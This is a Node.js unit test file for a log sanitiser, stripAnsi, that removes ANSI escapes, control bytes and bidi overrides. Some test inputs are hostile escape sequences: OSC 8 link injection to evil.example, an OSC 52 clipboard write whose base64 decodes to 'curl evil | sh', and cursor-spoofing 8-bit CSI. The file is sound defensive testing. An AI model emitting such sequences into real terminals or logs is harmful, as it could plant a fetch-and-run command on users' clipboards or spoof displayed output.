import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { stripAnsi } from '../../../client/src/logs/ansi';

describe('stripAnsi', () => {
    it('leaves plain text (and tabs) alone', () => {
        assert.equal(stripAnsi('GET /index.html 200\t12ms'), 'GET /index.html 200\t12ms');
        assert.equal(stripAnsi('ünïcødé ✓'), 'ünïcødé ✓');
    });
    it('removes colours and cursor movement', () => {
        assert.equal(stripAnsi('\x1b[1;31mERROR\x1b[0m boom'), 'ERROR boom');
        assert.equal(stripAnsi('\x1b[38;5;208mwarn\x1b[m'), 'warn');
        assert.equal(stripAnsi('\x1b[2K\x1b[1Gdone'), 'done');
        assert.equal(stripAnsi('\x1b[?25lhidden cursor\x1b[?25h'), 'hidden cursor');
        assert.equal(stripAnsi('\x9b31mC1 CSI\x9b0m'), 'C1 CSI');
    });
    it('removes OSC sequences (titles, hyperlinks) but keeps the link text', () => {
        assert.equal(stripAnsi('\x1b]0;title\x07after'), 'after');
        assert.equal(stripAnsi('\x1b]8;;https://example.com\x1b\\link\x1b]8;;\x1b\\'), 'link');
    });
    it('keeps what a carriage-return progress bar finally shows', () => {
        assert.equal(stripAnsi('10%\r50%\r100%'), '100%');
        assert.equal(stripAnsi('windows line\r'), 'windows line');
    });
    it('never lets a control byte through', () => {
        const out = stripAnsi('a\x00b\x07c\x08d\x1be\x7ff\x1b(Bg');
        assert.equal(out, 'abcdfg');
        assert.doesNotMatch(out, /[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
    });
    it('cannot inject links or reach the clipboard: OSC 8 and OSC 52, 7-bit and 8-bit, BEL or ST', () => {
        assert.equal(stripAnsi('\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07 me'), 'click me');
        assert.equal(stripAnsi('\x9d8;;https://evil.example/\x9cclick\x9d8;;\x9c'), 'click');
        assert.equal(stripAnsi('a\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07b'), 'ab');
        assert.equal(stripAnsi('a\x9d52;c;Y3VybA==\x9cb'), 'ab');
        assert.equal(stripAnsi('a\x90q#0;2;0;0;0\x9cb\x9fapc\x1b\\c'), 'abc');
    });
    it('drops bidi overrides and isolates, so a line reads as it is stored (Trojan Source)', () => {
        // "user is admin" drawn reversed by U+202E would read as something else.
        assert.equal(stripAnsi('access \u202enimda\u202c granted'), 'access nimda granted');
        assert.equal(stripAnsi('\u2066a\u2067b\u2068c\u2069\u200e\u200f\u061c'), 'abc');
        assert.equal(stripAnsi('one\u2028two\u2029three'), 'one two three');
        assert.equal(stripAnsi('עברית and العربية stay'), 'עברית and العربية stay');
    });
    it('the 8-bit CSI cannot move the cursor or recolour, whatever follows', () => {
        assert.equal(stripAnsi('ok\x9b2J\x9b1;1Hspoofed'), 'okspoofed');
        assert.doesNotMatch(stripAnsi('\x9b\x9b\x9b'), /[\x80-\x9f]/);
    });
});
